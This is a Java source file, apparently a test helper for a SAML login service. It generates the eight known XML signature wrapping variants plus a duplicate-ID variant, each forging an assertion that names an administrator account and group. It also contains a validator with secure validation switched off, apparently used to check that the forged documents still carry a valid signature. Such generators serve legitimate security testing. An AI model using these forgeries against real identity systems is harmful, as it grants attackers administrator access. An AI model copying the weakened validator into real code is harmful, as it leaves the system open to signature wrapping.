package dev.vitals.federation;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import javax.xml.crypto.dsig.XMLSignatureFactory;
import javax.xml.crypto.dsig.dom.DOMValidateContext;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.OutputKeys;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.xml.sax.InputSource;

/**
 * Signature wrapping: what was signed stays somewhere in the document, so that its signature holds, and a forged twin
 * stands where the reader looks. The eight variants of Somorovsky et al., "On Breaking SAML" (2012), by their numbers.
 */
final class SamlWrapping {

    private static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
    private static final String PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
    private static final String DS = "http://www.w3.org/2000/09/xmldsig#";

    private SamlWrapping() {}

    static Map<String, String> ofResponse(String xml) {
        var variants = new LinkedHashMap<String, String>();
        variants.put("XSW1: the signed response inside the signature of a forged one", change(xml, document -> {
            var signed = document.getDocumentElement();
            var forged = forged(signed);
            document.replaceChild(forged, signed);
            signature(forged).appendChild(signed);
        }));
        variants.put(
                "XSW2: the signed response beside the detached signature of a forged one", change(xml, document -> {
                    var signed = document.getDocumentElement();
                    var forged = forged(signed);
                    document.replaceChild(forged, signed);
                    forged.insertBefore(signed, signature(forged));
                    signed.removeChild(signature(signed));
                }));
        return variants;
    }

    static Map<String, String> ofAssertion(String xml) {
        var variants = new LinkedHashMap<String, String>();
        variants.put("XSW3: a forged, unsigned assertion before the signed one", change(xml, document -> {
            var signed = assertion(document);
            signed.getParentNode().insertBefore(unsigned(forged(signed)), signed);
        }));
        variants.put("XSW4: the signed assertion inside a forged, unsigned one", change(xml, document -> {
            var signed = assertion(document);
            var forged = unsigned(forged(signed));
            signed.getParentNode().replaceChild(forged, signed);
            forged.appendChild(signed);
        }));
        variants.put("XSW5: a forged assertion with the signature, the signed one behind it", change(xml, document -> {
            var signed = assertion(document);
            var forged = forged(signed);
            signed.getParentNode().replaceChild(forged, signed);
            forged.getParentNode().appendChild(unsigned(signed));
        }));
        variants.put("XSW6: the signed assertion inside the signature of a forged one", change(xml, document -> {
            var signed = assertion(document);
            var forged = forged(signed);
            signed.getParentNode().replaceChild(forged, signed);
            signature(forged).appendChild(signed);
        }));
        variants.put("XSW7: a forged assertion in extensions, the signed one in its place", change(xml, document -> {
            var signed = assertion(document);
            var extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
            extensions.appendChild(forged(signed));
            signed.getParentNode().insertBefore(extensions, signed);
            var again = unsigned(forged(signed));
            signed.getParentNode().insertBefore(again, signed);
        }));
        variants.put("XSW8: the signed assertion in an object of a forged one's signature", change(xml, document -> {
            var signed = assertion(document);
            var forged = forged(signed);
            signed.getParentNode().replaceChild(forged, signed);
            var object = document.createElementNS(DS, "ds:Object");
            object.appendChild(signed);
            signature(forged).appendChild(object);
        }));
        variants.put("the same id twice: a forged assertion that claims the signed one's", change(xml, document -> {
            var signed = assertion(document);
            var forged = forged(signed);
            forged.setAttribute("ID", signed.getAttribute("ID"));
            signed.getParentNode().insertBefore(forged, signed);
        }));
        return variants;
    }

    /** Whether any signature in the document holds, for whatever it points at. */
    static boolean someSignatureHolds(String xml, java.security.PublicKey key) {
        var document = parse(xml);
        var all = document.getElementsByTagName("*");
        var signatures = document.getElementsByTagNameNS(DS, "Signature");
        for (int at = 0; at < signatures.getLength(); at++) {
            var context = new DOMValidateContext(key, signatures.item(at));
            context.setProperty("org.jcp.xml.dsig.secureValidation", false);
            for (int one = 0; one < all.getLength(); one++) {
                if (((Element) all.item(one)).hasAttribute("ID")) {
                    context.setIdAttributeNS((Element) all.item(one), null, "ID");
                }
            }
            try {
                if (XMLSignatureFactory.getInstance("DOM")
                        .unmarshalXMLSignature(context)
                        .validate(context)) {
                    return true;
                }
            } catch (Exception notThisOne) {
                continue;
            }
        }
        return false;
    }

    private static Element assertion(Document document) {
        return (Element) document.getElementsByTagNameNS(SAML, "Assertion").item(0);
    }

    /** The same with another id, about somebody else in another group. */
    private static Element forged(Element original) {
        var forged = (Element) original.cloneNode(true);
        forged.setAttribute("ID", "_forged");
        text(forged, "NameID", "an-administrators-id");
        text(forged, "AttributeValue", "vitals-administrators");
        return forged;
    }

    private static void text(Element within, String name, String text) {
        var found = within.getElementsByTagNameNS(SAML, name);
        for (int at = 0; at < found.getLength(); at++) {
            found.item(at).setTextContent(text);
        }
    }

    private static Element signature(Element of) {
        for (var child = of.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (DS.equals(child.getNamespaceURI()) && "Signature".equals(child.getLocalName())) {
                return (Element) child;
            }
        }
        throw new AssertionError("Nothing signed");
    }

    private static Element unsigned(Element element) {
        element.removeChild(signature(element));
        return element;
    }

    private static String change(String xml, Consumer<Document> change) {
        try {
            var document = parse(xml);
            change.accept(document);
            var writer = new StringWriter();
            var transformer = TransformerFactory.newInstance().newTransformer();
            transformer.setOutputProperty(OutputKeys.OMIT_XML_DECLARATION, "yes");
            transformer.transform(new DOMSource(document), new StreamResult(writer));
            return writer.toString();
        } catch (Exception broken) {
            throw new IllegalStateException(broken);
        }
    }

    private static Document parse(String xml) {
        try {
            var factory = DocumentBuilderFactory.newInstance();
            factory.setNamespaceAware(true);
            return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
        } catch (Exception broken) {
            throw new IllegalStateException(broken);
        }
    }
}
